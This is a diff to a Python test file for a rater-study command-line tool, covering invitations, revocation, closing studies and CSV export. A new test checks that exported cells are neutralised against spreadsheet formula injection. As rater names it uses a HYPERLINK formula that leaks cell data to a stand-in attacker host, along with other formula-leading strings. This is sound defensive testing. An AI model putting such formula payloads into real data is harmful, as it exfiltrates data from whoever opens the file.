@@ -1,4 +1,5 @@
-"""`study create | list | export | analyse` end to end, and the votes table behind export."""
+"""`study create | invite | invitations | revoke | close | list | export | analyse` end to end,
+the votes table behind export, and the CSV's formula neutralising."""
 
 from __future__ import annotations
 
@@ -12,8 +13,14 @@ from test_study_items import write_run
 from medheb_app.cli import main
 from medheb_app.settings import Settings
 from medheb_app.store.db import Store
-from medheb_app.study import find_study, next_item, record_vote, sign_in, undo_last_vote
-from medheb_app.study.export import COLUMNS, outcome, stratum, votes_frame
+from medheb_app.study import (
+    find_study,
+    next_item,
+    record_vote,
+    sign_in_with_invitation,
+    undo_last_vote,
+)
+from medheb_app.study.export import COLUMNS, neutralise_cell, outcome, stratum, votes_frame
 
 
 def run_cli(capsys: pytest.CaptureFixture, *argv: str) -> tuple[int, str, str]:
@@ -34,19 +41,37 @@ def test_study_commands_end_to_end(tmp_path: Path, settings: Settings, capsys):
     run = write_run(tmp_path / "run", models=("oracle", "worst"), payloads=True)
     code, out, err = run_cli(
         capsys, "study", "create", "--run", str(run), "--model", "oracle", "--model", "worst",
-        "--n", "6", "--raters", "2", "--name", "pilot", "--json",
+        "--n", "6", "--raters", "2", "--name", "pilot", "--public-title", "Chest study",
+        "--json",
     )  # fmt: skip
     assert code == 0, err
     created = json.loads(out)
     assert created["n_items"] == 6 and created["models"] == ["oracle", "worst"]
+    assert created["public_title"] == "Chest study" and created["withheld"] == []
+
+    code, out, err = run_cli(capsys, "study", "invite", "--study", "pilot", "--n", "2", "--json")
+    assert code == 0, err
+    invitations = json.loads(out)["invitations"]
+    assert [i["link"] for i in invitations] == [f"/rate?invite={i['secret']}" for i in invitations]
+    code, human, _ = run_cli(capsys, "study", "invite", "--study", "pilot", "--n", "1")
+    assert "shown only now" in human and "/rate?invite=" in human
 
     store = Store.open(settings.database_url)
     study_id = find_study(store, "pilot").id
-    for name, choice in (("dr-a", "A"), ("dr-b", "tie")):
-        rater = sign_in(store, study_id, name)
-        while (view := next_item(store, study_id, rater.id)) is not None:
-            record_vote(store, view.token, rater.id, choice)
-    undo_last_vote(store, rater.id)  # dr-b's last vote is retracted, not exported
+    for invitation, name, choice in zip(invitations, ("dr-a", "dr-b"), ("A", "tie"), strict=True):
+        rater = sign_in_with_invitation(store, invitation["code"], name).rater_id
+        while (view := next_item(store, study_id, rater)) is not None:
+            record_vote(store, view.token, rater, choice)
+    undo_last_vote(store, study_id, rater)  # dr-b's last vote is retracted, not exported
+
+    code, out, _ = run_cli(capsys, "study", "invitations", "--study", "pilot", "--json")
+    listed = json.loads(out)["invitations"]
+    assert [(i["used"], i["revoked"]) for i in listed] == [(True, False)] * 2 + [(False, False)]
+    assert "secret" not in out and invitations[0]["code"] not in out
+    code, out, _ = run_cli(capsys, "study", "revoke", "--invitation", str(listed[2]["id"]))
+    assert code == 0 and "Revoked invitation" in out
+    code, out, _ = run_cli(capsys, "study", "invitations", "--study", str(study_id))
+    assert "revoked" in out and "dr-a" in out
 
     code, out, _ = run_cli(capsys, "study", "list", "--json")
     assert json.loads(out)["studies"][0]["votes"] == 11
@@ -59,7 +84,7 @@ def test_study_commands_end_to_end(tmp_path: Path, settings: Settings, capsys):
     assert list(table.columns) == COLUMNS
     assert len(table) == 11 and not table["retracted"].any()
     assert set(table["stratum"]) == {"only_a"}  # oracle always hits, worst never does
-    dr_a = table[table["rater"] == "dr-a"]
+    dr_a = table[table["rater_name"] == "dr-a"]
     # dr-a always chose the left list: the winner is whichever model was on the left
     assert (dr_a["winner"] == dr_a["model_left"]).all()
     assert len(votes_frame(store, "pilot", include_retracted=True)) == 12
@@ -81,6 +106,11 @@ def test_study_commands_end_to_end(tmp_path: Path, settings: Settings, capsys):
     }
     code, out, _ = run_cli(capsys, "study", "analyse", "--boot", "0")
     assert "oracle (a) vs worst (b)" in out and "Position bias" in out
+
+    code, out, _ = run_cli(capsys, "study", "close", "--study", "pilot")
+    assert code == 0 and "closed" in out
+    code, out, _ = run_cli(capsys, "study", "list")
+    assert "CLOSED" in out and "'Chest study'" in out
 
 
 def test_study_command_errors_are_one_line(tmp_path: Path, settings: Settings, capsys):
@@ -107,3 +137,48 @@ def test_study_command_errors_are_one_line(tmp_path: Path, settings: Settings, c
     assert code == 2 and "is a folder" in err
     code, out, _ = run_cli(capsys, "study", "list")
     assert code == 0 and "No studies yet" in out
+
+
+def test_exported_csv_neutralises_formulas(tmp_path: Path, settings: Settings, capsys):
+    """Attack: a rater named =HYPERLINK(...) was exported verbatim into the votes CSV."""
+    run = write_run(tmp_path / "run", models=("oracle", "worst"), payloads=True)
+    code, _, err = run_cli(
+        capsys, "study", "create", "--run", str(run), "--model", "oracle", "--model", "worst",
+        "--n", "8", "--name", "csv", "--open-enrolment",
+    )  # fmt: skip
+    assert code == 0, err
+    store = Store.open(settings.database_url)
+    study_id = find_study(store, "csv").id
+    from medheb_app.study import sign_in_open
+
+    names = [
+        '=HYPERLINK("http://evil.example/?"&A1,"open")',
+        "+1+2",
+        "-2+3",
+        "@SUM(A1)",
+        "\tTabbed",
+        "\rReturn",
+        "Dr Plain",
+    ]
+    typed = {}
+    for name in names:
+        rater = sign_in_open(store, study_id, name.strip() or "placeholder")
+        typed[rater.rater_id] = name
+        view = next_item(store, study_id, rater.rater_id)
+        record_vote(store, view.token, rater.rater_id, "A")
+    with store.session() as session:  # tab / CR lead-ins are trimmed at sign-in: write them
+        from medheb_app.store.study_tables import Rater
+
+        for rater_id, name in typed.items():
+            session.get(Rater, rater_id).display_name = name
+    csv_path = tmp_path / "votes.csv"
+    code, _, err = run_cli(capsys, "study", "export", "--out", str(csv_path))
+    assert code == 0, err
+    table = pd.read_csv(csv_path, keep_default_na=False)
+    assert sorted(table["rater_name"]) == sorted(["'" + name for name in names[:-1]] + ["Dr Plain"])
+    for cell in (value for column in table.columns for value in table[column].astype(str)):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    raw = csv_path.read_text()
+    assert ",=HYPERLINK" not in raw and "\n=" not in raw
+    assert neutralise_cell("=1+1") == "'=1+1" and neutralise_cell("Dr A") == "Dr A"
+    assert neutralise_cell(-3) == -3  # numbers are not text formulas
